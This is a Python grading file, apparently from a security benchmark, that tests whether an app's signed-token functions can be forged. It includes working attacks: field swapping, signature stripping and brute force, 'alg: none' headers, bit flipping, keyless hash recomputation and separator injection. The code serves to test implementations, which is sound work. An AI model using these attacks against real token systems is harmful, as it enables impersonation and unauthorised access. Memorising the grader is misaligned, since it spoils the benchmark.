"""Can a token be made, or altered, without the key? The attacker holds tokens for his own file. He takes one apart,
writes another name or a later time into it and puts it together again; an attack has worked when ``read_token`` gave
back a name for a token that ``make_token`` never made."""

from __future__ import annotations

import base64
import binascii
import hashlib
import hmac
import json
import re
import string
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from itertools import islice, product
from urllib.parse import quote, unquote_to_bytes

from weighbridge.tasks.oracle import App, Proof, exploit, mark, works

KEY = "/srv/data/key.txt"
OWN, OTHER = "holiday7photo", "salaries2024x"
SOON, LATER = 1700000000, 9700000000
BEFORE, AFTER = 1600000000, 1800000000
SEPARATORS = r"([.:|~$;,!&\s/]|--)"
MORE = r"([.:|~$;,!&\s/_-])"
"""Also what may be a letter of base64."""

MANY = 4_096
"""Signatures that are worth trying one after the other."""


def seed(nonce: str) -> dict[str, bytes | None]:
    return {KEY: nonce.encode()}


def functional(app: App) -> None:
    names = (f"report{mark(app.nonce, 'report')}.pdf", "holiday photo 7.jpg", "plan")
    tokens = [app.call("make_token", name, SOON) for name in names]
    works(all(isinstance(token, str) and token for token in tokens), f"make_token returns a string, not {tokens[0]!r}")
    works(len(set(tokens)) == len(names), "make_token returns different tokens for different names")
    for name, token in zip(names, tokens, strict=True):
        found = app.call("read_token", token, BEFORE)
        works(found == name, f"read_token of the token for {name!r} returns it, not {found!r}")
        found = app.call("read_token", token, AFTER)
        works(found is None, f"read_token returns None when the time is over, not {found!r}")
    for text in ("abc", "a.b.c", ""):
        works(app.call("read_token", text, BEFORE) is None, f"read_token({text!r}, …) returns None")


# --- taking a token apart ---------------------------------------------------------------------------------------------

Spelling = Callable[[bytes], str]


def readings(text: str) -> Iterator[tuple[bytes, Spelling]]:
    """What a text may stand for, each with the way to write it again."""
    yield text.encode("latin-1", "replace"), lambda raw: raw.decode("latin-1")
    letters = text.rstrip("=")
    padded, bare = letters + "=" * (-len(letters) % 4), letters == text and len(text) % 4 != 0
    if len(letters) % 4 != 1 and re.fullmatch(r"[A-Za-z0-9_-]{6,}", letters):
        yield (
            base64.urlsafe_b64decode(padded),
            lambda raw: base64.urlsafe_b64encode(raw).decode().rstrip("=" if bare else ""),
        )
    elif len(letters) % 4 != 1 and re.fullmatch(r"[A-Za-z0-9+/]{6,}", letters):
        yield base64.b64decode(padded), lambda raw: base64.b64encode(raw).decode().rstrip("=" if bare else "")
    if re.fullmatch(r"(?:[0-9a-fA-F]{2}){4,}", text):
        yield bytes.fromhex(text), lambda raw: raw.hex()
    if "%" in text:
        yield unquote_to_bytes(text), lambda raw: quote(raw, safe="")


@dataclass
class View:
    """One way to take a token apart: what is around it, its parts, and which of them carry name or time."""

    wrap: Spelling
    parts: list[str]
    payload: dict[int, tuple[bytes, Spelling]]

    @property
    def signatures(self) -> list[int]:
        """The parts that are neither separators nor payload nor a header."""
        return [
            index
            for index, part in enumerate(self.parts)
            if index % 2 == 0 and index not in self.payload and part and not self.header(index)
        ]

    def header(self, index: int) -> tuple[dict[str, object], Spelling] | None:
        for raw, spelling in readings(self.parts[index]):
            try:
                found = json.loads(raw)
            except (ValueError, RecursionError):
                continue
            if isinstance(found, dict):
                return found, spelling
        return None

    def build(self, edit: Callable[[bytes], bytes], others: dict[int, str] | None = None) -> str:
        parts = list(self.parts)
        for index, (raw, spelling) in self.payload.items():
            parts[index] = spelling(edit(raw))
        for index, text in (others or {}).items():
            parts[index] = text
        return self.wrap("".join(parts).encode("latin-1", "replace"))


def views(token: str) -> Iterator[View]:
    """Every way to take the token apart that finds the name or the time in it."""
    for whole, wrap in readings(token):
        text = whole.decode("latin-1")
        for parts in (re.split(SEPARATORS, text), re.split(MORE, text), [text]):
            payload: dict[int, tuple[bytes, Spelling]] = {}
            for index, part in enumerate(parts):
                for raw, spelling in readings(part) if index % 2 == 0 else ():
                    if OWN.encode() in raw or str(SOON).encode() in raw:
                        payload[index] = (raw, spelling)
                        break
            if payload:
                yield View(wrap, parts, payload)


def swap(raw: bytes) -> bytes:
    return raw.replace(OWN.encode(), OTHER.encode())


def prolong(raw: bytes) -> bytes:
    return raw.replace(str(SOON).encode(), str(LATER).encode())


def _token(app: App, name: str = OWN) -> str:
    token = app.attempt("make_token", name, SOON)
    return token if isinstance(token, str) and len(token) < 10_000 else ""


def _read(app: App, token: str, now: int, wanted: str, how: str) -> Proof | None:
    if app.attempt("read_token", token, now) != wanted:
        return None
    return Proof(347, app.asked[-1], f"{how}: {wanted!r} came back for a token that was never made")


def _forged(app: App, token: str, how: str) -> Proof | None:
    return _read(app, token, BEFORE, OTHER, how)


# --- attacks ----------------------------------------------------------------------------------------------------------


@exploit(cwe=347)
def exploit_other_name(app: App) -> Proof | None:
    """The name is changed, the rest is left."""
    for view in views(_token(app)):
        if proof := _forged(app, view.build(swap), "another name was written into a token"):
            return proof
    return None


@exploit(cwe=347)
def exploit_longer_life(app: App) -> Proof | None:
    """The time is changed, the rest is left."""
    for view in views(_token(app)):
        if proof := _read(app, view.build(prolong), AFTER, OWN, "a later time was written into a token that is over"):
            return proof
    return None


@exploit(cwe=347)
def exploit_signature_left_out(app: App) -> Proof | None:
    """Another name, and no signature, or only its first character."""
    digits = "0123456789abcdefABCDEFGHIJKLMNOPQRSTUVWXYZghijklmnopqrstuvwxyz-_+/="
    for view in views(_token(app)):
        for index in view.signatures:
            for text in ("", *digits, "None", "null"):
                if proof := _forged(app, view.build(swap, {index: text}), f"another name, signed {text!r}"):
                    return proof
            gone = {index: "", index - 1: ""} if index else {index: "", index + 1: ""}
            if proof := _forged(app, view.build(swap, gone), "another name, signature and separator left out"):
                return proof
    return None


@exploit(cwe=347)
def exploit_signature_left_out_of_an_object(app: App) -> Proof | None:
    """Another name, where the signature is a member of the payload itself, and that member is missing or empty."""
    for view in views(_token(app)):
        for raw, _ in view.payload.values():
            try:
                whole = json.loads(raw)
            except (ValueError, RecursionError):
                continue
            for key in whole if isinstance(whole, dict) else ():
                rest = {name: value for name, value in whole.items() if name != key}
                for changed in (rest, {**rest, key: ""}, {**rest, key: None}):

                    def edit(_: bytes, changed: dict[str, object] = changed) -> bytes:
                        return swap(json.dumps(changed).encode())

                    if proof := _forged(app, view.build(edit), f"another name, with {key!r} left out or empty"):
                        return proof
    return None


@exploit(cwe=347)
def exploit_short_signature(app: App) -> Proof | None:
    """Another name, and every signature that there can be."""
    for view in views(_token(app)):
        for index in view.signatures:
            shown = view.parts[index]
            letters = string.ascii_letters + string.digits + "-_"
            letters = next(one for one in ("0123456789", "0123456789abcdef", "0123456789ABCDEF", letters, shown)
                           if set(shown) <= set(one))  # fmt: skip
            if letters == "0123456789" and len(shown) < 4:
                letters = "0123456789abcdef"  # a short one may hold no letter by chance
            if len(letters) ** len(shown) > MANY:
                continue
            for tried in product(letters, repeat=len(shown)):
                how = f"another name, and one of {len(letters) ** len(shown):,} possible signatures"
                if proof := _forged(app, view.build(swap, {index: "".join(tried)}), how):
                    return proof
    return None


@exploit(cwe=347)
def exploit_flipped_bits(app: App) -> Proof | None:
    """The token hides the name under a mask: what is flipped in it is flipped in the name."""
    token = _token(app)
    flips = bytes(a ^ b for a, b in zip(OWN.encode(), OTHER.encode(), strict=True))
    parts = re.split(SEPARATORS, token)
    for index, part in enumerate(parts):
        for raw, spelling in readings(part) if len(part) < 600 else ():
            for at in range(len(raw) - len(flips) + 1):
                flipped = bytes(a ^ b for a, b in zip(raw[at:], flips, strict=False))
                changed = [*parts[:index], spelling(raw[:at] + flipped + raw[at + len(flips) :]), *parts[index + 1 :]]
                if proof := _forged(app, "".join(changed), "bits were flipped where the name is hidden"):
                    return proof
    return None


@exploit(cwe=347)
def exploit_algorithm_none(app: App) -> Proof | None:
    """The token's own header says that there is no signature."""
    for view in views(_token(app)):
        for index in range(0, len(view.parts), 2):
            header = view.header(index) if index not in view.payload else None
            for key in ("alg", "algorithm", "alg_name", "hash") if header else ():
                if header is None or key not in header[0]:
                    continue
                for word in ("none", "None", "NONE", "nOnE", "", None):
                    text = header[1](json.dumps({**header[0], key: word}, separators=(",", ":")).encode())
                    for signature in ("", "x"):
                        others = {index: text} | dict.fromkeys(view.signatures, signature)
                        if proof := _forged(app, view.build(swap, others), f"another name, with {key} = {word!r}"):
                            return proof
    return None


def _messages(view: View, edit: Callable[[bytes], bytes], signature: int) -> Iterator[bytes]:
    """What may have been signed, for a payload as it is or edited."""
    whole = view.build(edit)
    for text, _ in readings(whole):
        parts = re.split(SEPARATORS, text.decode("latin-1"))
        if len(parts) == len(view.parts):
            yield "".join(parts[: max(0, signature - 1)]).encode("latin-1")
            yield "".join(parts[signature + 2 :]).encode("latin-1")
    for raw, _ in view.payload.values():
        yield edit(raw)
    name, time = edit(OWN.encode()), edit(str(SOON).encode())
    for sep in (b"", b":", b"|", b".", b"-", b"_", b",", b";", b"&", b"\n", b"/"):
        yield name + sep + time
        yield time + sep + name
    yield name
    yield time


ALGORITHMS = ("md5", "sha1", "sha224", "sha256", "sha384", "sha512", "sha3_256", "sha3_512", "blake2b", "blake2s")


def _signatures(message: bytes, constants: list[bytes], size: int) -> Iterator[tuple[str, bytes]]:
    """What somebody without the key can compute as a signature of so many bytes, named."""
    sizes = {algorithm: hashlib.new(algorithm).digest_size for algorithm in ALGORITHMS}
    for algorithm in [name for name in sizes if sizes[name] == size] or [name for name in sizes if sizes[name] > size]:
        yield f"{algorithm} without a key", hashlib.new(algorithm, message, usedforsecurity=False).digest()[:size]
        for known in constants:
            title = f"{algorithm} with {known.decode('latin-1')!r} of the program's text"
            yield f"HMAC by {title}", hmac.digest(known, message, algorithm)[:size]
            for sep in (b"", b":", b"|", b"."):
                for joined in (known + sep + message, message + sep + known):
                    yield title, hashlib.new(algorithm, joined, usedforsecurity=False).digest()[:size]
    if size == 4:
        yield "CRC-32", binascii.crc32(message).to_bytes(4, "big")


@exploit(cwe=347)
def exploit_signature_without_the_key(app: App) -> Proof | None:
    """The signature follows from the token alone, or from it and the program's text."""
    source = (app.read("/srv/app/main.py") or b"")[: 1 << 17]
    constants = [*dict.fromkeys(re.findall(rb"[\"']([^\"'\\\n]{2,64})[\"']", source))][:60]
    for view in views(_token(app)):
        for index in view.signatures:
            edited = list(_messages(view, swap, index))
            for number, message in enumerate(_messages(view, lambda raw: raw, index)):
                for shown, spelling in readings(view.parts[index]) if number < len(edited) else ():
                    computed = _signatures(message, constants, len(shown)) if len(shown) >= 4 else ()
                    rank, title = next(((r, t) for r, (t, one) in enumerate(computed) if one == shown), (-1, ""))
                    if rank < 0:
                        continue
                    again = next(islice(_signatures(edited[number], constants, len(shown)), rank, None))[1]
                    forged = view.build(swap, {index: spelling(again)})
                    if proof := _forged(app, forged, f"another name, signed anew by {title}"):
                        return proof
    return None


@exploit(cwe=347)
def exploit_moved_boundary(app: App) -> Proof | None:
    """Name and time are signed in one piece: a digit moves from the end of the name to the front of the time."""
    token = _token(app, f"{OWN}9")

    def moved(raw: bytes) -> bytes:
        return raw.replace(f"{OWN}9".encode(), OWN.encode()).replace(str(SOON).encode(), f"9{SOON}".encode())

    for view in views(token):
        if proof := _read(app, view.build(moved), AFTER, OWN, "a digit of the name was moved to the time"):
            return proof
    return None


@exploit(cwe=347)
def exploit_separator_in_name(app: App) -> Proof | None:
    """A name of the attacker's own choice that reads as name, time and more; every token here is over."""
    for sep in ("|", ":", ".", "~", ";", ",", "&", "$", "-", "_", "/", " ", "\n", "\0", "&expires=", '","expires":'):
        for name in (f"{OWN}{sep}{LATER}", f"{LATER}{sep}{OWN}", f"{OWN}{sep}{LATER}{sep}x", f"{sep}{LATER}"):
            token = app.attempt("make_token", name, SOON)
            if isinstance(token, str) and (found := app.attempt("read_token", token, AFTER)) in (OWN, name):
                return Proof(347, "; ".join(app.asked[-2:]), f"{found!r} came back although the token's time is over")
    return None
